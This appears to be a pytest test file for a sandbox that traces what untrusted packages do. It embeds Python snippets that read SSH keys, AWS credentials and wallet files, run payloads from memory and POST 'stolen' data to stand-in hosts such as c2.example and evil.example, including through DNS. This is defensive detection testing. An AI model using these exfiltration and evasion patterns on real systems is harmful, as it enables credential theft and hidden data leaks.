"""What the package does is seen, under its real name, and nothing that it only claims to do is believed."""

import json
from pathlib import Path

import pytest

from scangate.local.sandbox.base import LookedUp, PhaseTrace
from scangate.models.analysis import Phase
from tests.local.sandbox import jobs

pytestmark = pytest.mark.tool("bwrap", "strace", "ip", "unshare", "setpriv")

FILES = r"""
import os, subprocess, threading, time
home = os.environ["HOME"]
os.symlink(f"{home}/.ssh/id_rsa", "innocent")
open("innocent").read()
folder = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
os.close(os.open(".aws/credentials", os.O_RDONLY, dir_fd=folder))
os.mkdir("/tmp/deep")
os.chdir("/tmp/deep")
open("../relative", "w").close()
os.fchdir(folder)
os.link(".netrc", "linked")
os.rename("linked", ".bashrc")
os.unlink(".profile")
os.close(os.open(".npmrc", os.O_PATH))
os.path.exists(f"{home}/.config/wallet")
open("/dev/shm/tool", "wb").write(open("/usr/bin/true", "rb").read())
os.chmod("/dev/shm/tool", 0o755)
os.chdir("/dev/shm")
subprocess.run(["harmless", "by relative path"], executable="./tool")
memory = os.memfd_create("payload")
os.write(memory, open("/usr/bin/true", "rb").read())
if os.fork() == 0:
    os.execve(memory, ["from memory"], {"A": "1"})
os.wait()
worker = threading.Thread(target=lambda: (os.chdir("/var/tmp"), open("by-a-thread", "w")))
worker.start(); worker.join()
open("after-the-thread", "w").close()
if os.fork() == 0:
    # execve in a thread that is not the first: it takes over the process's id
    threading.Thread(target=lambda: os.execv("/usr/bin/true", ["from a thread"])).start()
    time.sleep(60)
os.wait()
try:
    os.execv("/nowhere/curl", ["curl", "https://c2.example"])
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1)
        open("/tmp/by-the-daemon", "w").close()
        os._exit(0)
    os._exit(0)
"""


@pytest.fixture(scope="module")
def files() -> PhaseTrace:
    trace = jobs.run_python(FILES)
    assert trace.status == "completed", trace.stderr
    return trace


@pytest.mark.parametrize(
    ("path", "how"),
    [
        ("/home/dev/.ssh/id_rsa", "read"),
        ("/app/innocent", "read"),
        ("/app/innocent", "write"),
        ("/home/dev/.aws/credentials", "read"),
        ("/tmp/relative", "write"),
        ("/home/dev/.netrc", "read"),
        ("/home/dev/linked", "delete"),
        ("/home/dev/.bashrc", "write"),
        ("/home/dev/.profile", "delete"),
        ("/home/dev/.npmrc", "read"),
        ("/home/dev/.config/wallet", "read"),
        ("/dev/shm/tool", "write"),
        ("/var/tmp/by-a-thread", "write"),
        ("/var/tmp/after-the-thread", "write"),
        ("/tmp/by-the-daemon", "write"),
        ("/nowhere/curl", "read"),
    ],
)
def test_files(files: PhaseTrace, path: str, how: str) -> None:
    assert any(getattr(touched, how) for touched in files.touched if touched.path == path)


@pytest.mark.parametrize(
    "argv",
    [
        ("harmless", "by relative path"),
        ("from memory",),
        ("from a thread",),
        ("curl", "https://c2.example"),
        (jobs.python(), "-S", "main.py"),
    ],
)
def test_commands(files: PhaseTrace, argv: tuple[str, ...]) -> None:
    assert argv in {ran.argv for ran in files.ran}


def test_commands_have_their_environment(files: PhaseTrace) -> None:
    environs = {ran.argv: set(ran.environ) for ran in files.ran}
    assert environs[("from memory",)] == {"A=1"}
    assert {f"{name}={value}" for name, value in jobs.BAITS.items()} <= environs[(jobs.python(), "-S", "main.py")]


def test_the_sandbox_itself_is_not_seen(files: PhaseTrace) -> None:
    commands = {ran.argv[0] for ran in files.ran}
    assert not commands & {"/usr/bin/prlimit", "/usr/bin/env", "bwrap", "/usr/bin/bwrap"}
    assert not any(touched.path.startswith(("/newroot", "/oldroot")) for touched in files.touched)


FORGED = r"""
import os, subprocess
forged = [
    'x\n99 connect(3, {sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr("192.0.2.1")}, 16) = 0\n',
    'y", O_RDONLY) = 3</etc/forged',
    'z) = 3<>etc>forged>(deleted)',
    '<unfinished ...>',
    '\n2 +++ exited with 0 +++\n',
    '"], ["A=B"]) = 0 <unfinished ...>\n1 <... execve resumed>) = 0',
    '\xff\x80\\',
]
os.mkdir("d")
for name in forged:
    safe = name.replace("/", "\u2215")
    os.close(os.open(f"d/{safe}", os.O_CREAT | os.O_RDWR))
    os.close(os.open(os.fsencode(f"d/{safe}"), os.O_RDONLY))
    subprocess.run(["/usr/bin/true", name, "end"], env={"FORGED": name})
import socket
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    made.sendto(b'{sa_family=AF_INET, sin_port=htons(1), sin_addr=inet_addr("192.0.2.1")}', ("203.0.113.9", 514))
"""


def test_forged_lines_are_text() -> None:
    trace = jobs.run_python(FORGED)
    assert trace.status == "completed", trace.stderr
    assert [(item.address, item.port) for item in trace.reached] == [("203.0.113.9", 514)]
    assert not any(touched.path.startswith("/etc/forged") for touched in trace.touched)
    commands = [ran for ran in trace.ran if ran.argv[0] == "/usr/bin/true"]
    assert len(commands) == 7
    for ran in commands:
        assert ran.argv[2:] == ("end",)
        assert ran.environ == (f"FORGED={ran.argv[1]}",)
        assert any(touched.path == "/app/d/" + ran.argv[1].replace("/", "\u2215") for touched in trace.touched)


NETWORK = r"""
import socket, ssl, time, urllib.request
def post(url):
    try:
        urllib.request.urlopen(url, data=b"stolen=bait/secret", timeout=5)
    except Exception as error:
        print(type(error).__name__)
post("http://Evil.example/x")
post("https://c2.example/")
for attempt in range(100):
    try:
        with socket.create_connection(("203.0.113.7", 4567), timeout=1) as made:
            made.sendall(b"on a rare port")
        break
    except ConnectionRefusedError:
        time.sleep(0.05)
with socket.create_connection(("2001:db8::7", 443), timeout=5) as made:
    made.sendall(b"over IPv6")
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    made.sendto(b"a datagram", ("203.0.113.8", 514))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    query = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\6leaked\7example\0\0\x10\0\1"
    made.settimeout(5)
    made.sendto(query, ("203.0.113.53", 53))
    answer, sender = made.recvfrom(512)
    assert sender == ("203.0.113.53", 53) and answer[:2] == query[:2]
with socket.socket() as made:
    made.bind(("0.0.0.0", 6789))
assert socket.gethostbyname("evil.example") == socket.gethostbyname("EVIL.example.")
"""


def test_connections_end_in_the_sink_with_their_names() -> None:
    trace = jobs.run_python(NETWORK)
    assert trace.status == "completed", trace.stderr
    by_name = {(item.names, item.port) for item in trace.reached if item.names}
    assert by_name == {(("evil.example",), 80), (("c2.example",), 443)}
    assert {(item.address, item.port) for item in trace.reached if not item.names} == {
        ("203.0.113.7", 4567), ("2001:db8::7", 443), ("203.0.113.8", 514), ("203.0.113.53", 53), ("0.0.0.0", 6789),
    }  # fmt: skip
    assert {LookedUp(name="evil.example", record_type="A"), LookedUp(name="leaked.example", record_type="TXT")} <= set(
        trace.looked_up
    )
    sent = b"\n".join(trace.sent)
    for body in (b"stolen=bait/secret", b"on a rare port", b"over IPv6", b"a datagram"):
        assert body in sent


ODD_CLIENTS = r"""
import select, socket, struct, time
def closed(made):
    try:
        return made.recv(100) == b""
    except ConnectionResetError:
        return True
# its own loopback is no way to the sink
with socket.create_connection(("127.0.0.1", 80), timeout=5) as made:
    assert closed(made)
# a name asked for over TCP, in two pieces, and something that is no question
message = b"\x12\x34\x01\0\0\1\0\0\0\0\0\0\3tcp\7example\0\0\1\0\1"
with socket.create_connection(("203.0.113.53", 53), timeout=5) as made:
    made.sendall(struct.pack("!H", len(message)) + message[:10])
    time.sleep(0.2)
    made.sendall(message[10:])
    (size,) = struct.unpack("!H", made.recv(2))
    assert made.recv(size)[:2] == b"\x12\x34"
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    made.sendto(b"stolen by way of port 53", ("203.0.113.53", 53))
# a client that waits for leave to send
with socket.create_connection(("203.0.113.80", 8080), timeout=5) as made:
    made.sendall(b"PUT /x HTTP/1.1\r\nHost: put.example\r\nExpect: 100-continue\r\nContent-Length: 9\r\n\r\n")
    assert b"100" in made.recv(100)
    made.sendall(b"the-body!")
    assert b"404" in made.recv(100)
# one that resets, one that says nothing, and many at once
with socket.create_connection(("203.0.113.81", 80), timeout=5) as made:
    made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
silent = socket.create_connection(("203.0.113.82", 80), timeout=20)
kept = [socket.create_connection(("203.0.113.83", 80), timeout=5) for _ in range(300)]
assert any(closed(made) for made in kept[-40:])  # those that are not served; see test_limits
assert closed(silent)
for made in kept:
    made.close()
# a port that the package has taken itself
server = socket.create_server(("0.0.0.0", 4999))
with socket.create_connection(("203.0.113.84", 4999), timeout=5):
    time.sleep(0.3)
"""


def test_odd_clients_do_not_stop_the_sink() -> None:
    trace = jobs.run_python(ODD_CLIENTS)
    assert trace.status == "completed", trace.stderr
    assert LookedUp(name="tcp.example", record_type="A") in trace.looked_up
    assert b"stolen by way of port 53" in trace.sent
    assert any(body.endswith(b"the-body!") for body in trace.sent)
    assert {item.names for item in trace.reached if item.address == "203.0.113.80"} == {("put.example",)}


IN_MEMORY = r"""
import os
def program(name):
    made = os.memfd_create(name)
    os.write(made, open("/usr/bin/true", "rb").read())
    return made
def run(path):
    if os.fork() == 0:
        os.execv(path, ["ls"])
    assert os.wait()[1] == 0
made = program("one")
os.symlink(f"/proc/self/fd/{made}", "innocent")
%s
"""


@pytest.mark.parametrize(
    "way",
    [
        'run(f"/proc/self/fd/{made}")',
        'run(f"/proc/{os.getpid()}/fd/{made}")',
        'run(f"/dev/fd/{made}")',
        'os.dup2(made, 77); run("/proc/self/fd/77")',
        'os.chdir("/proc/self/fd"); run(f"./{made}")',
        'run("innocent")',
    ],
)
def test_a_program_in_memory_is_one_whatever_it_is_called(way: str) -> None:
    trace = jobs.run_python(IN_MEMORY % way)
    assert trace.status == "completed", trace.stderr
    assert "/memfd:one" in {touched.path for touched in trace.touched if touched.read}


def test_a_file_in_memory_that_is_not_run_is_none() -> None:
    trace = jobs.run_python(IN_MEMORY % 'run("/usr/bin/true")')
    assert not any(touched.path.startswith("/memfd:") for touched in trace.touched)


UNTRACED = r"""
import os, socket, struct
def asking(name):
    return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\7example\0\0\1\0\1"
# `write` is no call that is traced, and nobody listens on the port
for family, address in ((socket.AF_INET, "203.0.113.9"), (socket.AF_INET6, "2001:db8::9")):
    with socket.socket(family, socket.SOCK_DGRAM) as made:
        made.connect((address, 40123))
        os.write(made.fileno(), b"written to " + address.encode())
# in pieces
with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as made:
    made.setsockopt(socket.IPPROTO_IPV6, 24, 1280)  # IPV6_MTU
    made.connect(("2001:db8::9", 40124))
    os.write(made.fileno(), b"in pieces " + bytes(2000))
# the port of the resolver, taken so that the question does not come to it
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as taken:
    taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    taken.bind(("203.0.113.53", 53))
    taken.settimeout(5)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect(("203.0.113.53", 53))
        os.write(made.fileno(), asking(b"hidden"))
    assert b"hidden" in taken.recv(512)
# what stays on its own machine is nobody's business
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
    made.connect(("127.0.0.1", 40125))
    os.write(made.fileno(), b"to itself")
"""


def test_datagrams_are_seen_however_they_are_sent() -> None:
    trace = jobs.run_python(UNTRACED)
    assert (trace.status, trace.truncated) == ("completed", False), trace.stderr
    assert {b"written to 203.0.113.9", b"written to 2001:db8::9"} <= set(trace.sent)
    assert any(b"in pieces" in body for body in trace.sent)
    assert LookedUp(name="hidden.example", record_type="A") in trace.looked_up
    assert not any(b"to itself" in body for body in trace.sent)


RACED = r"""
import ctypes, json, mmap, os, signal, socket, struct
libc = ctypes.CDLL(None)
def address(host, port):
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H4s8x", port, socket.inet_aton(host))
shared = mmap.mmap(-1, 4096)
shared[:16] = harmless = address("127.0.0.1", 9)
child = os.fork()
while child == 0:
    number = shared[64] * 256 + shared[65]
    shared[:16] = address("203.0.113.66", 20000 + number)
    shared[:16] = harmless
place = ctypes.addressof(ctypes.c_char.from_buffer(shared))
quiet, real = ("127.0.0.1", 9), set()
for number in range(5000):
    if number >= 400 and real - {quiet}:
        break  # a busy machine may take longer to lose the race
    shared[64], shared[65] = divmod(number, 256)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        if libc.connect(made.fileno(), ctypes.c_void_p(place), 16) == 0:
            real.add(made.getpeername())
            os.write(made.fileno(), b"x")
os.kill(child, signal.SIGKILL)
print(json.dumps(sorted(real - {quiet})))
"""


def test_an_address_that_is_changed_meanwhile_is_seen_where_it_arrives() -> None:
    """The trace says what stood there when it looked, the taps what the kernel took."""
    trace = jobs.run_python(RACED)
    assert trace.status == "completed", trace.stderr
    connected = {(address, port) for address, port in json.loads(trace.stdout) if not address.startswith("127.")}
    assert connected
    assert connected <= {(item.address, item.port) for item in trace.reached}


FIRST = r"""
import os, time
open("/app/left", "w").close()
open("/tmp/left", "w").close()
if os.fork() == 0:
    os.setsid()
    time.sleep(60)
"""
SECOND = r"""
import os, sys
assert os.path.exists("/app/left") and os.path.exists("/tmp/left")
assert sorted(int(name) for name in os.listdir("/proc") if name.isdigit()) == [1, os.getpid()]
assert open("/opt/helper/import.py").read() == "helper = 1\n"
"""


def test_phases_share_files_and_nothing_else(tmp_path: Path) -> None:
    helper = tmp_path / "import.py"
    helper.write_text("helper = 1\n")
    traces = jobs.run(
        jobs.plan(jobs.program(jobs.python(), "-S", "first.py")),
        jobs.plan(jobs.program(jobs.python(), "-S", "second.py"), phase=Phase.IMPORT),
        jobs.plan(jobs.program("/usr/bin/false"), jobs.program("/usr/bin/true"), phase=Phase.EXECUTE),
        files={"first.py": FIRST, "second.py": SECOND},
        read_only={jobs.HELPER: helper},
    )
    assert [(trace.phase, trace.status) for trace in traces] == [
        (Phase.INSTALL, "completed"), (Phase.IMPORT, "completed"), (Phase.EXECUTE, "error_analysis"),
    ]  # fmt: skip
    assert "/app/left" not in {touched.path for touched in traces[2].touched}
    assert [ran.argv for ran in traces[2].ran] == [("/usr/bin/false",)]


TOOL = r"""
import socket, subprocess
open("/tmp/of-the-tool", "w").close()
subprocess.run(["/usr/bin/true", "noise"])
for name in ("tool.example", "both.example"):
    try:
        socket.getaddrinfo(name, 80, type=socket.SOCK_STREAM)
    except OSError:
        pass
"""
PACKAGE = TOOL.replace("of-the-tool", "of-the-package").replace("noise", "child").replace("tool.", "package.")


def test_tools_are_told_apart() -> None:
    tool, package = (
        jobs.program(jobs.python(), "-S", file, own=file == "package.py") for file in ("tool.py", "package.py")
    )
    (trace,) = jobs.run(jobs.plan(tool, package), files={"tool.py": TOOL, "package.py": PACKAGE})
    assert trace.status == "completed", trace.stderr
    paths = {touched.path for touched in trace.touched}
    assert "/tmp/of-the-package" in paths
    assert "/tmp/of-the-tool" not in paths
    commands = {ran.argv[1:] for ran in trace.ran}
    assert {("-S", "package.py"), ("child",)} <= commands
    assert not {("-S", "tool.py"), ("noise",)} & commands
    assert {asked.name for asked in trace.looked_up} == {"package.example", "both.example"}


def test_three_runs_are_equal() -> None:
    source = "import subprocess; subprocess.run(['/usr/bin/true', 'x']); open('/tmp/x', 'w').close()"
    first, second, third = (jobs.run_python(source) for _ in range(3))
    assert first == second == third
